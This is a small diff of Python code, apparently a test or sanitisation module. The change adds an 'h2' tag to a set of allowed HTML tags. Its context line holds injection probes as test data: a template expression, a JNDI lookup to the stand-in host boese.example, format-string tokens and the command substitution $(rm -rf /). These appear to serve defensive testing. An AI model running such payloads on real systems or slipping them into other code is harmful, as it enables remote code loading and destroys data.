@@ -69,7 +69,7 @@ TRAPS = (
     ("{{7*7}} ${jndi:ldap://boese.example/a} %s%n $(rm -rf /)", "Das Ergebnis ist 49"),
 )
 NUMBERS = [f"DS 66-{number:04}" for number in range(1, len(TRAPS) + 1)]
-OURS = {"div", "p", "h3", "ul", "ol", "li", "a", "span", "details", "summary", "mark", "br", "style", "strong", "em"}
+OURS = set("div p h2 h3 ul ol li a span details summary mark br style strong em".split())
 
 
 def hidden(number: int) -> str:
